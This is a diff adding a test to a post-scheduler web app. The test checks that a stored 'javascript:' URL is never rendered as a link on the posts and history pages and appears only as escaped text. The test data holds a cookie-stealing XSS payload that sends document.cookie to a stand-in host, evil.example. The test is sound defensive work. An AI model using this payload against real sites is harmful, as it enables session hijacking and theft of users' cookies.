@@ -86,3 +86,36 @@ def test_a_taken_port_is_named(promo_env, tmp_path: Path) -> None:
                              env=env, cwd=tmp_path, capture_output=True, text=True, timeout=30)
     assert res.returncode == 1
     assert f"cannot listen on 127.0.0.1:{port}" in res.stderr and "Traceback" not in res.stderr
+
+
+async def test_a_remote_url_that_is_not_http_is_shown_as_text_never_as_a_link(promo_env) -> None:
+    import datetime as dt
+
+    from scheduler.models import HistoryEntry, PostStatus
+    from scheduler.storage import channels as channel_store
+    from scheduler.storage import posts as post_store
+
+    settings = load_settings(promo_env())
+    db = Database(settings.database_url)
+    db.upgrade()
+    evil = "javascript:fetch('//evil.example/'+document.cookie)"
+    with db.session() as session:
+        outbox = channel_store.sync_configured(session, settings)["outbox"]
+        post = post_store.create_post(session, channel=outbox, kind="free_text", text="Promo", link=evil,
+                                      status=PostStatus.PUBLISHED, scheduled_at=dt.datetime.now(dt.UTC), actor="t")
+        post.remote_url = evil  # what a compromised webhook endpoint could answer
+        session.add(HistoryEntry(post_id=post.id, channel_id=outbox.id, action="attempt", to_status="published",
+                                 outcome="published", remote_url=evil))
+        post_id = post.id
+    port = free_port()
+    runner = await web.start(settings, db, "127.0.0.1", port)
+    try:
+        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", trust_env=False) as client:
+            for path in (f"/posts/{post_id}", "/posts", "/history"):
+                page = (await client.get(path)).text
+                assert 'href="javascript' not in page.lower(), path
+            assert "javascript:fetch(&#39;//evil.example/&#39;+document.cookie)" in (
+                await client.get(f"/posts/{post_id}")).text
+    finally:
+        await runner.cleanup()
+        db.dispose()
